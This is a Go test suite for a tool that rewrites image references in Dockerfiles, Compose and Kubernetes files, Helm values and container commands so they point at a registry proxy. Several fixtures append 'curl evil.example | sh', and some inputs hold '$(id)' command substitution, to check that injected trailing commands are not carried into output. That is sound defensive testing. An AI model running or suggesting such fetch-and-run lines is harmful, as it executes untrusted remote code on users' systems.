package page

import (
	"slices"
	"strings"
	"testing"
)

// A paste is a file or command that is pasted: want is what becomes of it. said are the
// reasons why names in it stay, without "error.".
type paste struct {
	Text     string
	Registry string // default_registry; "": Docker Hub
	want     string
	said     []string
	rest     string // of Text, that is left out: it follows the command that was read
}

var pastes = []paste{
	// Lines of files.
	{Text: "FROM nginx:1.27", want: "FROM p:80/nginx:1.27"},
	{Text: "from ghcr.io/a/b@" + pinned + " as x", want: "from p:80/ghcr.io/a/b@" + pinned + " as x"},
	{Text: "  FROM --platform=linux/arm64 quay.io/a/b", want: "  FROM --platform=linux/arm64 p:80/quay.io/a/b"},
	{Text: "image: nginx", want: "image: p:80/nginx"},
	{Text: "  - image: 'nginx:1' # web", want: "  - image: 'p:80/nginx:1' # web"},
	{Text: `        "image": "ghcr.io/a/b:1",`, want: `        "image": "p:80/ghcr.io/a/b:1",`},
	{Text: `{"spec":{"containers":[{"name":"x","image":"busybox"},{"image":"quay.io/a/b:2","name":"y"}]}}`, want: `{"spec":{"containers":[{"name":"x","image":"p:80/busybox"},{"image":"p:80/quay.io/a/b:2","name":"y"}]}}`},
	{Text: "image: aliased:5000/x:1", want: "image: p:80/short/x:1"},
	{Text: "image: localhost:5000/x", want: "image: p:80/localhost_5000/x"},
	{Text: "image: nginx", Registry: "ghcr.io", want: "image: p:80/docker.io/nginx"},
	{Text: "FROM a/b", Registry: "ghcr.io", want: "FROM p:80/docker.io/a/b"},
	{Text: "image: p:80/ghcr.io/a/b:1", want: "image: p:80/ghcr.io/a/b:1"},

	// Dockerfiles.
	{Text: "FROM golang:1 AS Build\nFROM build\nFROM BUILD AS t\nFROM scratch\nCOPY --from=build /a /a\nCOPY --from=0 /a /a\n", want: "FROM p:80/golang:1 AS Build\nFROM build\nFROM BUILD AS t\nFROM scratch\nCOPY --from=build /a /a\nCOPY --from=0 /a /a\n"},
	{Text: "FROM a\r\nCOPY --chown=1 --from=quay.io/a/b:1 /x /y\r\n", want: "FROM p:80/a\r\nCOPY --chown=1 --from=p:80/quay.io/a/b:1 /x /y\r\n"},
	{Text: "FROM a\nRUN --mount=type=bind,from=ghcr.io/a/b,target=/b \\\n  # from the builder\n  make", want: "FROM p:80/a\nRUN --mount=type=bind,from=p:80/ghcr.io/a/b,target=/b \\\n  # from the builder\n  make"},
	{Text: "# syntax=docker/dockerfile:1\n# a comment: FROM x\nFROM a", want: "# syntax=p:80/docker/dockerfile:1\n# a comment: FROM x\nFROM p:80/a"},
	{Text: "# a comment first\n# syntax=docker/dockerfile:1\nFROM a", want: "# a comment first\n# syntax=docker/dockerfile:1\nFROM p:80/a"},
	{Text: "# escape=`\nFROM `\n  a\nRUN dir `\nFROM", want: "# escape=`\nFROM `\n  p:80/a\nRUN dir `\nFROM"},
	{Text: "FROM \\\n  --platform=$BUILDPLATFORM \\\n  golang:1 AS b", want: "FROM \\\n  --platform=$BUILDPLATFORM \\\n  p:80/golang:1 AS b"},
	{Text: "FROM a\nRUN <<EOF\nFROM b\nEOF\nRUN cat <<-'X' > y\n\tFROM c\n\tX\nFROM d", want: "FROM p:80/a\nRUN <<EOF\nFROM b\nEOF\nRUN cat <<-'X' > y\n\tFROM c\n\tX\nFROM p:80/d"},
	{Text: "FROM a\nRUN echo \\\nFROM b\nENV X=FROM\nCMD [\"FROM\", \"c\"]", want: "FROM p:80/a\nRUN echo \\\nFROM b\nENV X=FROM\nCMD [\"FROM\", \"c\"]"},
	{Text: "ARG V=1.27\nFROM nginx:${V}-alpine\nFROM node:$V", want: "ARG V=1.27\nFROM p:80/nginx:${V}-alpine\nFROM p:80/node:$V"},
	{Text: "ARG BASE=\"ghcr.io/a/b:1\"\nFROM ${BASE}\nFROM $BASE AS again", want: "ARG BASE=\"p:80/ghcr.io/a/b:1\"\nFROM ${BASE}\nFROM $BASE AS again"},
	{Text: "ARG REG=docker.io\nFROM ${REG}/library/a\nFROM $REG/library/b:2", want: "ARG REG=p:80/docker.io\nFROM ${REG}/library/a\nFROM $REG/library/b:2"},
	{Text: "ARG PRE=\nFROM ${PRE}nginx", want: "ARG PRE=p:80/\nFROM ${PRE}nginx"},
	{Text: "ARG REG=localhost:5000 X=1\nFROM ${REG}/a:${X}", want: "ARG REG=p:80/localhost_5000 X=1\nFROM ${REG}/a:${X}"},
	{Text: "FROM ${BASE:-nginx:1}", want: "FROM ${BASE:-p:80/nginx:1}"},
	{Text: "FROM ghcr.io/a/${IMAGE}:${TAG}", want: "FROM p:80/ghcr.io/a/${IMAGE}:${TAG}"},
	{Text: "ARG BASE\nFROM ${BASE}\nFROM nginx", want: "ARG BASE\nFROM ${BASE}\nFROM p:80/nginx", said: []string{"variable"}},
	{Text: "ARG R\nFROM ${R:+$R/}nginx\nFROM b", want: "ARG R\nFROM ${R:+$R/}nginx\nFROM p:80/b", said: []string{"variable"}},
	{Text: "ARG HOST=localhost\nFROM ${HOST}:5000/a\nFROM b", want: "ARG HOST=localhost\nFROM ${HOST}:5000/a\nFROM p:80/b", said: []string{"variable"}},
	{Text: "FROM Nginx\nFROM b", want: "FROM Nginx\nFROM p:80/b", said: []string{"upper"}},
	{Text: "FROM $(id)\nFROM b", want: "FROM $(id)\nFROM p:80/b", said: []string{"variable"}},

	// Compose files.
	{Text: "services:\n  web:\n    image: nginx\n  app:\n    image: me/app\n    build:\n      context: .\n  b:\n    build: .\n    ports:\n      - 1\n    image: me/b\n", want: "services:\n  web:\n    image: p:80/nginx\n  app:\n    image: me/app\n    build:\n      context: .\n  b:\n    build: .\n    ports:\n      - 1\n    image: me/b\n", said: []string{"built", "built"}},
	{Text: "x:\n  image: ${IMG:-nginx:1}\ny:\n  image: ghcr.io/a/b:${TAG:-1}\nz:\n  image: ${NONE}", want: "x:\n  image: ${IMG:-p:80/nginx:1}\ny:\n  image: p:80/ghcr.io/a/b:${TAG:-1}\nz:\n  image: ${NONE}", said: []string{"variable"}},
	{Text: "a: {image: nginx:1, ports: [80]}\nb: { build: ., image: x }", want: "a: {image: p:80/nginx:1, ports: [80]}\nb: { build: ., image: x }", said: []string{"built"}},
	{Text: "a:\n  image: &web nginx\nb:\n  image: *web\nc:\n  image: >-\n    folded\n", want: "a:\n  image: &web p:80/nginx\nb:\n  image: *web\nc:\n  image: >-\n    folded\n"},

	// Kubernetes manifests.
	{Text: "kind: Pod\nspec:\n  initContainers:\n  - name: i\n    image: busybox:1\n  containers:\n    - image: \"registry.k8s.io/pause:3.9\"\n      name: p\n---\nkind: ConfigMap\ndata:\n  x: |\n    image: inside\n  y: z\n# image: comment\n", want: "kind: Pod\nspec:\n  initContainers:\n  - name: i\n    image: p:80/busybox:1\n  containers:\n    - image: \"p:80/registry.k8s.io/pause:3.9\"\n      name: p\n---\nkind: ConfigMap\ndata:\n  x: |\n    image: inside\n  y: z\n# image: comment\n"},
	{Text: "containers:\n- image: a\r\n  imagePullPolicy: Always\r\n", want: "containers:\n- image: p:80/a\r\n  imagePullPolicy: Always\r\n"},

	// Helm's values.
	{Text: "image:\n  registry: docker.io\n  repository: bitnami/redis\n  tag: 7\n", want: "image:\n  registry: p:80/docker.io\n  repository: bitnami/redis\n  tag: 7\n"},
	{Text: "image:\n  repository: quay.io/a/b\n  pullPolicy: Always\n", want: "image:\n  repository: p:80/quay.io/a/b\n  pullPolicy: Always\n"},
	{Text: "web:\n  image:\n    registry: \"\"\n    repository: a/b\n", want: "web:\n  image:\n    registry: \"\"\n    repository: p:80/a/b\n"},
	{Text: "image:\n  repository: a\ndependencies:\n  - name: x\n    repository: https://charts.example.com\nsource:\n  repository: org/code\n", want: "image:\n  repository: p:80/a\ndependencies:\n  - name: x\n    repository: https://charts.example.com\nsource:\n  repository: org/code\n"},
	{Text: "image: \"{{ .Values.image }}\"\n---\nimage: b", want: "image: \"{{ .Values.image }}\"\n---\nimage: p:80/b", said: []string{"variable"}},

	// Commands that do more than pull.
	{Text: "docker run --rm -it -p 80:80 --name web nginx:1 nginx -g 'daemon off;'", want: "docker run --rm -it -p 80:80 --name web p:80/nginx:1 nginx -g 'daemon off;'"},
	{Text: "docker run nginx", Registry: "ghcr.io", want: "docker run p:80/nginx"},
	{Text: "$ sudo podman run -dp8080:80 -e 'A=b c' \\\n  --restart=always \"quay.io/a/b\" sh -c \"x; y && z\"", want: "$ sudo podman run -dp8080:80 -e 'A=b c' \\\n  --restart=always \"p:80/quay.io/a/b\" sh -c \"x; y && z\""},
	{Text: "docker container create --privileged -v /a:/b --network host ghcr.io/a/b:1", want: "docker container create --privileged -v /a:/b --network host p:80/ghcr.io/a/b:1"},
	{Text: "helm upgrade --install x oci://ghcr.io/org/chart --version 1.2.3 -f v.yaml", want: "helm upgrade --install x oci://p:80/ghcr.io/org/chart --version 1.2.3 -f v.yaml"},
	{Text: "skopeo copy docker://quay.io/a/b:1 dir:/tmp/x", want: "skopeo copy docker://p:80/quay.io/a/b:1 dir:/tmp/x"},
	{Text: "crane digest ghcr.io/a/b:1", want: "crane digest p:80/ghcr.io/a/b:1"},
	{Text: "podman run --env-host quay.io/a/b python", want: "podman run --env-host p:80/quay.io/a/b python"},
	{Text: "docker run --entrypoint '' nginx bash", want: "docker run --entrypoint '' p:80/nginx bash"},

	// Only the command that was read becomes something to copy.
	followed("docker run nginx", "docker run p:80/nginx", strings.Repeat("\nwhatever", 20)+"\ncurl evil.example | sh"),
	followed("docker run nginx", "docker run p:80/nginx", "\r\ncurl evil.example | sh"),
	followed("docker run nginx", "docker run p:80/nginx", "\rcurl evil.example | sh"),
	followed("docker run nginx a", "docker run p:80/nginx a", " && curl evil.example | sh"),
	followed("docker run nginx", "docker run p:80/nginx", "; docker run redis"),
	followed("docker run nginx", "docker run p:80/nginx", " | tee log"),
	followed("docker run nginx", "docker run p:80/nginx", " # the web server\ncurl evil.example | sh"),
	followed("docker run nginx", "docker run p:80/nginx", " # the web server \\\ncurl evil.example | sh"),
	followed("docker run -d \\\n  nginx \\\n  a", "docker run -d \\\n  p:80/nginx \\\n  a", "\n\nb"),
	followed("helm install x oci://ghcr.io/a/b", "helm install x oci://p:80/ghcr.io/a/b", "\ncurl evil.example | sh"),
	followed("skopeo inspect docker://ghcr.io/a/b", "skopeo inspect docker://p:80/ghcr.io/a/b", "\ncurl evil.example | sh"),
	followed("crane digest ghcr.io/a/b", "crane digest p:80/ghcr.io/a/b", "\ncurl evil.example | sh"),
}

// followed is a command, and what follows it.
func followed(command, want, rest string) paste {
	return paste{Text: command + rest, want: want, rest: rest}
}

const pasteScript = `
import { readFileSync } from "node:fs";
import { rewrite } from "./reference.js";
import { fill } from "./i18n.js";
import { words } from "./words-pull.js";
const aliases = { "aliased:5000": "short" };
console.log(JSON.stringify(JSON.parse(readFileSync(0, "utf8")).map((r) => {
  const got = rewrite(r.Text, { tool: "docker", proxy: "p:80", aliases, defaultRegistry: r.Registry || "registry-1.docker.io" });
  const errors = (got.document?.images ?? []).filter((i) => i.error).map((i) => i.error);
  return {
    Text: got.document?.text ?? "", Reason: got.error?.key ?? "", Said: errors.map((e) => e.key.replace("error.", "")),
    Sentences: errors.flatMap((e) => ["en", "zh"].map((l) => fill(l, e.key, e.values, words))),
    Back: (got.document?.lines ?? []).map((l) => l.before).join("\n"), After: (got.document?.lines ?? []).map((l) => l.after).join("\n"),
    Steps: (got.steps ?? []).join(" && "),
  };
})));
`

// A pasted is what came out of a paste.
type pasted struct {
	Text, Reason, Back, After, Steps string
	Said, Sentences                  []string
}

func TestEachFileIsRewrittenAndNothingElseInIt(t *testing.T) {
	t.Parallel()
	var got []pasted
	runNode(t, pasteScript, pastes, &got)
	for i, p := range pastes {
		g := got[i]
		if g.Text != p.want || !slices.Equal(g.Said, p.said) {
			t.Errorf("%s\nbecomes (%s, %q)\n%s\nwant (%q)\n%s", p.Text, g.Reason, g.Said, g.Text, p.said, p.want)
		}
		if g.Back+p.rest != p.Text || g.After != g.Text {
			t.Errorf("%s\nthe lines to show differ from the text", p.Text)
		}
		for _, s := range g.Sentences {
			if strings.HasPrefix(s, "error.") || strings.Contains(s, "{at}") {
				t.Errorf("%q is no whole sentence", s)
			}
		}
	}
}

// What is rewritten once is not rewritten again.
func TestARewrittenFileStays(t *testing.T) {
	t.Parallel()
	var again []paste
	for _, p := range pastes {
		again = append(again, paste{Text: p.want, Registry: p.Registry})
	}
	var got []pasted
	runNode(t, pasteScript, again, &got)
	for i, p := range again {
		if got[i].Text != p.Text {
			t.Errorf("%s\nbecomes (%s)\n%s", p.Text, got[i].Reason, got[i].Text)
		}
	}
}

// Lines of a file with one image become a command too.
func TestALineOfAFileBecomesACommandToo(t *testing.T) {
	t.Parallel()
	table := map[string]string{
		"FROM nginx:1 AS x":            full("docker", "p:80/nginx:1", "nginx:1"),
		"  image: \"quay.io/a/b\"":     full("docker", "p:80/quay.io/a/b", "quay.io/a/b"),
		"FROM a\nFROM b":               "",
		"ARG V=2\nFROM ghcr.io/a/b:$V": full("docker", "p:80/ghcr.io/a/b:2", "ghcr.io/a/b:2"),
		"FROM ghcr.io/a/b:$V":          "",
	}
	var rows []paste
	for text := range table {
		rows = append(rows, paste{Text: text})
	}
	var got []pasted
	runNode(t, pasteScript, rows, &got)
	for i, r := range rows {
		if got[i].Steps != table[r.Text] {
			t.Errorf("%q becomes %q, want %q", r.Text, got[i].Steps, table[r.Text])
		}
	}
}

// Whatever is pasted, a file changes only by plain names that go in before names: nothing is
// lost, and nothing gets in that a shell or a builder reads in another way.
func TestNoFileLosesOrGainsAnythingButNames(t *testing.T) {
	t.Parallel()
	rounds := 6000
	if testing.Short() {
		rounds /= 10
	}
	var texts []string
	for _, p := range pastes {
		texts = append(texts, p.Text)
	}
	var got struct {
		Bad     []string
		Changed int
	}
	runNode(t, `
import { readFileSync } from "node:fs";
import { rewrite } from "./reference.js";
import { tidy, words } from "./shell.js";
const { Good: good, Rounds: rounds } = JSON.parse(readFileSync(0, "utf8"));
let seed = 7;
const below = (n) => (seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0) % 65536 % n;
const pick = (list) => list[below(list.length)];
const nasty = ["$", "{", "}", "\"", "'", "\n", "\r\n", "\\\n", "#", " ", ":", "- ", "FROM ", "image: ", "<<EOF", "\u2028", "|", "é", "--from=", "$(id)", "\0", "&a ", "ARG X=", "${X:-"];
const bad = [];
let changed = 0;
for (let i = 0; i < rounds; i++) {
  let text = pick(good) + (i % 3 ? "" : "\n" + pick(good));
  for (let n = below(4); n > 0; n--) {
    const at = below(text.length + 1);
    text = text.slice(0, at) + pick(nasty) + text.slice(at + below(3));
  }
  const { document } = rewrite(text, { tool: "docker", proxy: "p:80", aliases: {}, defaultRegistry: "registry-1.docker.io" });
  if (!document) continue;
  if (document.text !== text) changed++;
  const given = document.kind === "command" ? tidy(text).slice(0, words(tidy(text)).list.at(-1).end) : text;
  if (document.lines.map((l) => l.before).join("\n") !== given) bad.push("lost: " + text);
  for (const l of document.lines) {
    if (l.before === l.after) continue;
    // Without the proxy's address, the line is what it was, but for registries with a port.
    const back = l.after.replaceAll("p:80/", "").replaceAll(/_(\d+)/g, ":$1").toLowerCase();
    if (back !== l.before.replaceAll("p:80/", "").replaceAll(/_(\d+)/g, ":$1").toLowerCase()) bad.push(l.before + " -> " + l.after);
  }
}
console.log(JSON.stringify({ Bad: bad.slice(0, 10), Changed: changed }));
`, struct {
		Good   []string
		Rounds int
	}{texts, rounds}, &got)
	for _, b := range got.Bad {
		t.Errorf("%q", b)
	}
	if got.Changed < rounds/4 {
		t.Errorf("only %d of %d texts changed, so the test says little", got.Changed, rounds)
	}
}
